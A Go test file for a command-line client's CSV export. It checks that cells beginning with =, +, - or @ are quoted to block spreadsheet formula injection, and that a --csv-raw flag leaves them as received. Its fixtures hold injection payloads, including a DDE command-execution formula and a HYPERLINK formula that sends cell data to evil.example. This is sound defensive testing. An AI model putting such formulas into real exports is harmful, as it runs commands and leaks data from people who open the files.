package cli

import (
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
)

// Finding 6 of issue 13: CSV formula injection. `odx get -o csv` writes a
// string cell that a spreadsheet would run (= + - @ first) with a leading
// '; numbers, and strings that are plain negative numbers, stay as they
// are; --csv-raw writes every cell as received.

// formulaServer is a fault server of 4 rows, each with one payload of the
// review in Name, a negative number and a negative decimal sent as a
// string (IEEE754Compatible).
func formulaServer(t *testing.T) *faultServer {
	payloads := []string{`=cmd|' /C calc'!A0`, `+1+1`, `@SUM(1+1)`, `=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")`}
	f := newFaultServer(t, len(payloads))
	f.rowJSON = func(i int) string {
		return fmt.Sprintf(`{"Id":%d,"Name":"%s","Delta":-7,"Amount":"-1.50","Exp":-1.5E3}`, i, payloads[i])
	}
	return f
}

func TestCSVFormulaGuard(t *testing.T) {
	faultEnv(t)
	f := formulaServer(t)
	for _, tc := range []struct {
		raw   bool
		names []string
	}{
		{false, []string{`'=cmd|' /C calc'!A0`, `'+1+1`, `'@SUM(1+1)`, `'=HYPERLINK("http://evil.example/?d="&A1,"Click")`}},
		{true, []string{`=cmd|' /C calc'!A0`, `+1+1`, `@SUM(1+1)`, `=HYPERLINK("http://evil.example/?d="&A1,"Click")`}},
	} {
		args := []string{"get", "Items", "-o", "csv"}
		if tc.raw {
			args = append(args, "--csv-raw")
		}
		code, stdout, stderr := f.cli(t, args...)
		if code != exitOK {
			t.Fatalf("%s: exit status %d, stderr %q; want 0", strings.Join(args, " "), code, stderr)
		}
		recs, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
		if err != nil || len(recs) != 5 {
			t.Fatalf("%s: %d records (%v) in %q; want a header and 4 rows", strings.Join(args, " "), len(recs), err, stdout)
		}
		if h := strings.Join(recs[0], ","); h != "Id,Name,Delta,Amount,Exp" {
			t.Errorf("header %q; want Id,Name,Delta,Amount,Exp", h)
		}
		for i, rec := range recs[1:] {
			if rec[1] != tc.names[i] {
				t.Errorf("raw %v, row %d: Name %q; want %q", tc.raw, i, rec[1], tc.names[i])
			}
			if rec[2] != "-7" || rec[3] != "-1.50" || rec[4] != "-1.5E3" {
				t.Errorf("raw %v, row %d: numbers %q; want -7, -1.50 and -1.5E3 as sent", tc.raw, i, rec[2:])
			}
		}
	}
}

func TestCSVRawNeedsCSV(t *testing.T) {
	faultEnv(t)
	f := newFaultServer(t, 1)
	code, _, stderr := f.cli(t, "get", "Items", "-o", "json", "--csv-raw")
	if code != exitUsage || !strings.Contains(stderr, "--csv-raw goes with -o csv") {
		t.Errorf("exit status %d, stderr %q; want 2 and a sentence", code, stderr)
	}
}
